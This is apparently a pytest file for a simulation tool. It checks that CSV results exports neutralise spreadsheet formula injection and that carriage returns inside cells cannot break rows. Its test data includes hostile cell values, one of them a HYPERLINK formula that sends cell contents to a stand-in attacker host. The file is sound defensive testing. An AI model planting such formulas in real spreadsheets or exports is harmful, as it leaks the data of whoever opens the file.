"""Hostile text stays text: no CSV cell of a results folder runs as a spreadsheet formula."""

from __future__ import annotations

import csv
import json
import subprocess
import sys

import pandas as pd
import pytest

from sim.analysis.tables import neutralize, write_csv

SIM = [sys.executable, "-m", "sim"]

HOSTILE = {
    "equals": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "at": "@SUM(1,2)",
    "tab": "\t=1+2",
    "plus": "+1+2",
    "minus": "-1+2",
    "cr": "\r=1+2",
}


@pytest.mark.parametrize("text", list(HOSTILE.values()), ids=list(HOSTILE))
def test_a_formula_cell_gets_a_leading_quote(text):
    frame = pd.DataFrame({"label": [text], "share": [-0.5]})
    out = neutralize(frame)
    assert out["label"].tolist() == ["'" + text.replace("\r", "\n")]
    assert out["share"].tolist() == [-0.5]  # numbers stay numbers, negative or not
    assert out["share"].dtype == frame["share"].dtype


def test_plain_text_and_numbers_are_left_alone():
    frame = pd.DataFrame(
        {"label": ["War ends", "a=b", "", "'quoted"], "n": [1, -2, 3, 4], "x": [0.5, -1e9, 2, 3]}
    )
    out = neutralize(frame)
    assert out["label"].tolist() == ["War ends", "a=b", "", "'quoted"]
    assert out["n"].tolist() == [1, -2, 3, 4] and out["x"].tolist() == [0.5, -1e9, 2, 3]
    assert frame["label"].tolist()[0] == "War ends"  # the input frame is not changed


def test_a_carriage_return_inside_a_cell_cannot_end_the_row(tmp_path):
    path = tmp_path / "t.csv"
    write_csv(pd.DataFrame({"label": ["a\rb", "c\r\nd"], "p": [1, 2]}), path)
    with open(path, encoding="utf-8", newline="") as f:
        assert list(csv.reader(f)) == [["label", "p"], ["a\nb", "1"], ["c\nd", "2"]]


def test_write_csv_writes_neutral_cells_and_plain_numbers(tmp_path):
    path = tmp_path / "t.csv"
    write_csv(pd.DataFrame({"label": ["=1+2", "ok"], "p": [-0.25, 1.0]}), path)
    assert path.read_text(encoding="utf-8").splitlines() == ["label,p", "'=1+2,-0.25", "ok,1.0"]


def _scenario(tmp_path):
    labels = "\n".join(
        f"  {oid}: {{when: t == withdrawn, label: {json.dumps(text)}}}"
        for oid, text in HOSTILE.items()
    )
    text = (
        "scenario: hostile_labels\n"
        "title: Hostile labels\n"
        "start: 2025-01-01\n"
        "horizon: 2025-12-31\n"
        "tracks:\n"
        "  t: {states: [present, withdrawn], initial: present}\n"
        "events:\n"
        "  - {id: leave, track: t, from: present, to: withdrawn, at: 2025-09-30}\n"
        f"outcomes:\n{labels}\n"
    )
    path = tmp_path / "hostile_labels.yaml"
    path.write_text(text, encoding="utf-8")
    return path


def test_outcome_labels_reach_outcomes_csv_neutralised(tmp_path):
    out = tmp_path / "out"
    r = subprocess.run(
        [*SIM, "run", _scenario(tmp_path), "--runs", "50", "--no-charts", "--out", out],
        capture_output=True,
        text=True,
    )
    assert r.returncode == 0, r.stderr
    with open(out / "outcomes.csv", encoding="utf-8", newline="") as f:
        rows = {row["outcome"]: row for row in csv.DictReader(f)}
    assert {oid: rows[oid]["label"] for oid in HOSTILE} == {
        oid: "'" + text.replace("\r", "\n") for oid, text in HOSTILE.items()
    }
    assert rows["equals"]["probability"] == "1.0"  # still a plain number
    summary = json.loads((out / "summary.json").read_text(encoding="utf-8"))
    assert summary["outcomes"]["tab"]["label"] == "\t=1+2"  # JSON keeps the text verbatim
    for name in ("outcomes.csv", "occupancy.csv", "first_passage.csv"):
        with open(out / name, encoding="utf-8", newline="") as f:
            cells = [cell for row in csv.reader(f) for cell in row]
        assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r"))], name
